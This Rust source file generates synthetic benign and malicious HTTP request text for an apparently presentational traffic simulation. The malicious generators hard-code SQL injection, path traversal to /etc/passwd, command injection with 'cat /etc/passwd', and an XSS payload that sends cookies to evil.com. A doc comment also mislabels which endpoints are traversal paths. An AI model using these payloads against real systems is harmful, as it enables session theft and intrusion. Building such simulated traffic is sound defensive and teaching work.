//! Synthetic packet payloads: HTTP-request-shaped text.
//!
//! Purely presentational. The only contract is that the output is never
//! empty and malicious traffic reads differently from benign traffic.

use rand::Rng;

const HTTP_METHODS: &[&str] = &["GET", "POST", "PUT", "DELETE", "PATCH"];

const BENIGN_ENDPOINTS: &[&str] = &[
    "/api/users",
    "/api/products",
    "/api/search",
    "/api/auth/login",
    "/api/auth/logout",
    "/api/profile",
    "/api/settings",
    "/health",
    "/status",
    "/metrics",
    "/api/dashboard",
    "/api/notifications",
    "/static/assets",
    "/api/events",
    "/api/comments",
];

/// The first few entries are path-traversal shapes; the traversal generator
/// samples only those
const MALICIOUS_ENDPOINTS: &[&str] = &[
    "/admin/config",
    "/../../../etc/passwd",
    "/wp-admin/install.php",
    "/phpMyAdmin/setup.php",
    "/api/users?id=1%20OR%201=1",
    "/cgi-bin/bash",
    "/api/login?username=admin%27%20--",
    "/.env",
    "/config.php.bak",
    "/shell.php",
    "/api/exec?cmd=whoami",
    "/actuator/env",
    "/server-status",
];

const USER_AGENTS: &[&str] = &[
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64)",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7)",
    "Mozilla/5.0 (Linux; Android 12)",
];

const MALICIOUS_USER_AGENTS: &[&str] = &[
    "sqlmap/1.4.7",
    "Nikto/2.1.6",
    "Nmap Scripting Engine",
    "masscan/1.3",
    "Mozilla/5.0 zgrab/0.x",
];

const HEADERS: &[&str] = &[
    "Content-Type: application/json",
    "Accept: */*",
    "Authorization: Bearer JWT",
    "X-Requested-With: XMLHttpRequest",
    "Referer: https://example.com",
];

const BENIGN_PAYLOADS: &[&str] = &[
    r#"{"username":"user","password":"********"}"#,
    r#"{"query":"product search"}"#,
    r#"{"id":123,"action":"view"}"#,
    r#"{"filters":{"category":"electronics"}}"#,
    r#"{"page":1,"limit":10}"#,
];

fn pick<'a, R: Rng>(rng: &mut R, pool: &[&'a str]) -> &'a str {
    pool[rng.random_range(0..pool.len())]
}

/// Generate packet content for a benign or malicious packet
pub fn generate_content<R: Rng>(rng: &mut R, malicious: bool) -> String {
    if malicious {
        generate_malicious(rng)
    } else {
        generate_benign(rng)
    }
}

fn generate_benign<R: Rng>(rng: &mut R) -> String {
    let method = pick(rng, HTTP_METHODS);
    let endpoint = pick(rng, BENIGN_ENDPOINTS);
    let agent = pick(rng, USER_AGENTS);
    let header = pick(rng, HEADERS);

    let payload = if method == "POST" || method == "PUT" {
        format!("\n{}", pick(rng, BENIGN_PAYLOADS))
    } else {
        String::new()
    };

    format!(
        "{method} {endpoint} HTTP/1.1\nHost: api.example.com\n{header}\nUser-Agent: {agent}{payload}"
    )
}

fn generate_malicious<R: Rng>(rng: &mut R) -> String {
    match rng.random_range(0..4) {
        0 => sql_injection(rng),
        1 => path_traversal(rng),
        2 => xss(rng),
        _ => command_injection(rng),
    }
}

fn sql_injection<R: Rng>(rng: &mut R) -> String {
    let agent = pick(rng, MALICIOUS_USER_AGENTS);
    format!(
        "POST /api/login HTTP/1.1\nHost: api.example.com\nContent-Type: application/json\nUser-Agent: {agent}\n{}",
        r#"{"username":"admin' OR '1'='1","password":"' OR '1'='1"}"#
    )
}

fn path_traversal<R: Rng>(rng: &mut R) -> String {
    let endpoint = MALICIOUS_ENDPOINTS[rng.random_range(0..4)];
    let agent = pick(rng, MALICIOUS_USER_AGENTS);
    format!("GET {endpoint} HTTP/1.1\nHost: api.example.com\nUser-Agent: {agent}")
}

fn xss<R: Rng>(rng: &mut R) -> String {
    let agent = pick(rng, USER_AGENTS);
    format!(
        "POST /api/comments HTTP/1.1\nHost: api.example.com\nContent-Type: application/json\nUser-Agent: {agent}\n{}",
        r#"{"comment":"<script>document.location='http://evil.com/cookie?'+document.cookie</script>"}"#
    )
}

fn command_injection<R: Rng>(rng: &mut R) -> String {
    let agent = pick(rng, MALICIOUS_USER_AGENTS);
    format!(
        "GET /api/ping?host=127.0.0.1;cat /etc/passwd HTTP/1.1\nHost: api.example.com\nUser-Agent: {agent}"
    )
}
